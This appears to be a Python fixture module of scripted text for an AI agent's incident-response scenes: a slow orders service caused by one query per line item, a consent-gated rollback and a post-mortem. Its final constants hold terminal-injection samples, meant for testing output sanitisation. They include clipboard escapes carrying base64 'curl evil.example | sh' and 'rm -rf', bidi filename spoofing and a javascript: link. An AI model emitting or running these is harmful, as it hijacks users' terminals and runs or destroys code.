"""Owns the longer texts of the scenes: what tools print and what the agent concludes.

Invariant: times, commits and figures agree with `host`.
"""

from __future__ import annotations

_QUOTE_LENGTH = 80


def quoted(text: str) -> str:
    """The first line of what somebody wrote, short enough to repeat in a sentence."""
    line = " ".join(text.split("\n", 1)[0].split())
    short = line if len(line) <= _QUOTE_LENGTH else f"{line[: _QUOTE_LENGTH - 1].rstrip()}…"
    return f"“{short}”"


def opening(asked: str) -> str:
    """The first words of the investigation."""
    return f"On it: {quoted(asked)}. I'll start with what changed on orders, then look at latency and pool."


GREP_FAILED = "grep: app.log: No such file or directory\n[exit code 2]\n"
POD_LOG_COMMAND = 'kubectl logs deploy/orders --since=1h | grep -c "pool exhausted"'
ANALYST_TASK = "Find the slowest queries of orders in the last hour, and the code that sends them."

DATABASE_CONFIG = """\
     1\tpool:
     2\t  size: 20
     3\t  acquire_timeout_ms: 2000
     4\t  max_lifetime_s: 1800
"""

SLOW_QUERIES = """\
 calls    mean_ms  total_s  query
 412,870      0.4    165.1  SELECT * FROM wrapping WHERE item_id = $1
  10,322      1.9     19.6  SELECT * FROM items WHERE order_id = $1
  10,322      0.8      8.3  SELECT * FROM orders WHERE id = $1
"""

GREP_WRAPPING = """\
orders/queries.py:18:WRAPPING = "SELECT * FROM wrapping WHERE item_id = $1"
orders/repository.py:47:                item.wrapping = db.one(WRAPPING, item.id)
"""

ANALYST_REPORT = """\
412,870 of 433,514 queries in the last hour are `SELECT * FROM wrapping WHERE item_id = $1`: 40 for each \
order loaded. They come from `orders/repository.py:47`, inside a loop over the line items."""

CONCLUSION = """\
## Root cause

Commit `9f2c1e` (2.41.0, 08:24) loads the wrapping of **each line item** with a query of its own. A \
request holds its connection 40 times longer, and the pool of 20 runs dry: everything else waits up to 2 \
s for a connection.

| | before 08:24 | now |
|---|---:|---:|
| p99 latency | 212 ms | 2,185 ms |
| pool in use | 5 of 20 | 20 of 20 |
| queries per order | 2 | 42 |
| timeouts since 08:30 | 0 | 1,284 |

The line that does it:

```python
for item in items:
    item.wrapping = db.one(WRAPPING, item.id)  # one query per item
```

What I propose:

1. Roll back to 2.40.3 now. Say *roll it back* and I'll prepare it.
2. Bring the feature back with one joined query.
3. Add a test that allows two queries for an order of 40 lines."""

ROLLED_BACK = "deployment.apps/orders rolled back\n"

ROLLOUT_STATUS = """\
Waiting for deployment "orders" rollout to finish: 2 out of 6 new replicas have been updated...
Waiting for deployment "orders" rollout to finish: 5 out of 6 new replicas have been updated...
deployment "orders" successfully rolled out
"""

RECOVERED = """\
orders runs 2.40.3 again, and it recovers:

- p99 latency: 2,185 ms → **231 ms** within three minutes
- pool in use: 20 → 6 of 20
- no timeout since 08:57

Gift wrapping is not shown until the fixed version is out."""


def not_rolled_back(reason: str) -> str:
    """What the agent proposes when it was told no."""
    why = f"You said: {quoted(reason)}." if reason else "You said no."
    return f"""\
I have left production as it is. {why}

Without a rollback I can do two things that change less:

- switch the `gift_wrapping` flag off, which skips the loop
- raise the pool from 20 to 60 connections, which buys time and loads the database

Tell me which, or ask me to roll back later."""


RUNBOOKS = """\
1. RB-112 Connection pool exhausted (orders, cart): check deploys of the last hour, roll back first
2. RB-087 Slow checkout: who to tell, and when
3. RB-140 Query count tests: how to write one
"""


def runbook_answer(asked: str) -> str:
    """What the runbooks say."""
    return (
        f"For {quoted(asked)} the best match is **RB-112, Connection pool exhausted**: check the deploys of"
        " the last hour and roll back first. RB-087 says to tell support once checkout has been slow"
        " for 15 minutes."
    )


POSTMORTEM = """\
# Post-mortem: slow checkout on 12 October

## Summary

From 08:30 to 08:57 the p99 latency of orders was ten times its baseline. About one customer in three \
met a slow checkout, and 1,284 requests timed out. The cause was version 2.41.0, which sent one database \
query per line item. Rolling back to 2.40.3 ended the incident.

## Timeline

| time | what |
|---|---|
| 08:24 | 2.41.0 (`9f2c1e`) is deployed |
| 08:30 | p99 passes 1.6 s, the pool is at 19 of 20 |
| 08:41 | the alert fires, eleven minutes late |
| 08:53 | the root cause is found |
| 08:57 | the rollback is complete, no more timeouts |

## What happened

The change shows gift wrapping on each line of an order. It replaced a joined query by a loop with a \
query per line. In the tests an order has two lines, so the loop cost nothing there. In production an \
order has 40 lines on average, each request held its connection 40 times longer, and the pool of 20 \
connections could not keep up.

Requests then waited for a connection until their two seconds were over. The retries of the web tier \
made it worse: they asked for the same orders again while the first attempt was still waiting.

## What went well

The deploy list and the metrics pointed to the same minute, so the search was short. The rollback needed \
one command and no migration.

## What went badly

The alert watches the mean, which hardly moved. No test counts queries. The pool has no alert of its own.

## Follow-ups

- [ ] Alert on p99 and on the pool, not on the mean (Tavleen, this week)
- [ ] A test that allows two queries for an order of 40 lines (Marta, this week)
- [ ] Bring gift wrapping back with a joined query (Marta, next sprint)
- [ ] No retries while the pool is full (web team, next sprint)"""

EXPLAIN_COMMAND = "psql production -c 'EXPLAIN ANALYZE SELECT * FROM wrapping WHERE item_id = 1'"
QUERY_PLAN = """\
 Index Scan using wrapping_item_id on wrapping  (cost=0.43..8.45 rows=1) (actual time=0.021..0.022 rows=1)
   Index Cond: (item_id = 1)
 Execution Time: 0.391 ms
"""

SUMMARY_1 = "# Summary\n\nVersion 2.41.0 made orders slow from 08:30 on: one query per line item.\n"
SUMMARY_2 = SUMMARY_1 + "It ended with the rollback at 08:57. A test is to count the queries.\n"
SUMMARY_3 = SUMMARY_1 + "It ended with the rollback at 08:57. Marta owns the test that counts queries.\n"

HOSTILE_OUTPUT = (
    "08:31:02 upload ok \x1b[2J\x1b[H\x1b[31mall your screen\x1b[0m\n"
    "08:31:03 clipboard \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 set\n"
    "08:31:04 title \x1b]2;owned\x1b\\ changed\n"
    "08:31:05 c1 \x9b31m \x9d0;owned\x9c and a bell \x07\n"
    "08:31:06 progress 10%\rprogress 99%\b\b\b100%\n"
    "08:31:07 markup [/] [bold red]not bold[/] [@click=app.bell]click[/] [link=http://x]y[/link]\n"
    "08:31:08 bidi safe_\u202egnp.exe\u2066 \u200bzero\u200dwidth\ufeff\n"
    "08:31:09 unfinished \x1b]0;never closed\n"
)

HOSTILE_MESSAGE = (
    "The log tries to take over the terminal: it clears the screen (\x1b[2J), sets the clipboard"
    " (\x1b]52;c;cm0gLXJm\x07) and the title (\x1b]2;owned\x07), and hides an extension"
    " (\u202egnp.exe\u202c).\n\n"
    "It also brings markup such as [/], [red] and [@click=app.quit]quit[/], and a link"
    " [that runs something](javascript:alert(1)). None of it may do anything here."
)
